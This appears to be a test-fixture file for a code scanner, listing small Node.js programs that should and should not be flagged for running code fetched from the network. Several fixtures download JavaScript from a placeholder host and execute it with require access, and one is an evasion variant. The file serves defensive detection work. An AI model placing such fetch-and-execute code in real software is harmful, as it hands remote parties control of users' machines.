import type { Examples } from "@doorward/core";

/** Programs that hand the computer to fetched code, and programs that hand it to their own. */
export const examples: Examples = {
  hits: [
    {
      name: "a function that is handed require",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'fetch("https://cdn.example/agent.js").then((answer) => answer.text()).then((text) => new Function("require", text)(require));\n',
      },
    },
    {
      name: "a function built in two steps in another file",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const { run } = require("./run");\n\nrequire("axios").get("https://cdn.example/agent.js").then(({ data }) => run(data.message));\n',
        "run.js":
          'exports.run = (text) => {\n  const make = (code) => new Function.constructor("require", code);\n  make(text)(require);\n};\n',
      },
    },
    {
      name: "a module that is compiled from an answer",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'require("https").get("https://cdn.example/agent.js", (answer) => {\n  let text = "";\n  answer.on("data", (part) => (text += part));\n  answer.on("end", () => module._compile(text, "agent"));\n});\n',
      },
    },
  ],
  misses: [
    {
      name: "a template that becomes a function of its values",
      why: "It is handed values, and nothing came from outside.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'const render = new Function("values", "return values.name");\nconsole.log(render({ name: "a" }));\n',
      },
    },
    {
      name: "a bundled module that is handed a loader of its own",
      why: "Nothing is fetched.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const wrap = new Function("require", "module", "exports", "exports.a = 1");\nwrap(require, module, exports);\n',
      },
    },
    {
      name: "an answer that is shown",
      why: "Nothing that came is run.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'fetch("https://data.example/list.json").then((answer) => answer.text()).then(console.log);\n',
      },
    },
  ],
  evasions: [
    {
      name: "the same without a parameter, through the global object",
      caughtBy: "code/fetched-code-runs",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'fetch("https://cdn.example/agent.js").then((answer) => answer.text()).then((text) => new Function(text)());\n',
      },
    },
  ],
};
